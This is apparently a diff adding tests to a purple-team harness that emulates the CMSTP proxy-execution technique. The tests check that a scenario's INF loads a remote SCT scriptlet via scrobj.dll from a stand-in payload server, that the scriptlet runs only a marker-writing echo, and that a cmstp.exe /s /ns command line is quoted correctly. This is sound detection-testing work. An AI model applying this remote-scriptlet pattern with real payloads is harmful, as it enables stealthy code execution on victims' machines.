@@ -78,3 +78,42 @@ test("every remote operation still fits cmd.exe's 8191-character line once encod
     );
   }
 });
+
+test('a scriptlet scenario gets its SCT under /<marker>/ on the payload server, with the command as a JScript string', (t) => {
+  const [remote] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-remote-scriptlet.yaml')]);
+  if (!remote) throw new Error('remote scenario missing');
+
+  const rendered = renderEmulation(remote, { marker, payloadBaseUrl: 'http://payload.lab.test:8080' });
+
+  t.like(rendered.scriptlet, {
+    host: 'payload.lab.test',
+    path: `/${marker}/${marker}.sct`,
+    url: `http://payload.lab.test:8080/${marker}/${marker}.sct`,
+  });
+  t.true(
+    rendered.payload.content.includes(
+      `%11%\\scrobj.dll,NI,http://payload.lab.test:8080/${marker}/${marker}.sct`,
+    ),
+  );
+  const run = /\.Run\(("(?:[^"\\]|\\.)*")/.exec(rendered.scriptlet?.content ?? '')?.[1] ?? '""';
+  t.is(JSON.parse(run), `cmd.exe /c echo ${marker}> ${rendered.markerPath}`);
+  t.throws(() => renderEmulation(remote, { marker }), {
+    instanceOf: HarnessError,
+    message: /no payload server/,
+  });
+});
+
+test('Program Files staging quotes the INF path on the cmstp command line', (t) => {
+  const [control] = loadScenariosOrThrow([
+    join(builtinScenariosDir(), 'cmstp-negative-control-admin-install.yaml'),
+  ]);
+  if (!control) throw new Error('negative control missing');
+
+  const rendered = renderEmulation(control, { marker });
+
+  t.is(
+    rendered.cmstpCommandLine,
+    `C:\\Windows\\System32\\cmstp.exe /s /ns "C:\\Program Files\\purple-harness\\runs\\${marker}\\${marker}.inf"`,
+  );
+  t.is(rendered.payloadEvidence, 'none');
+});
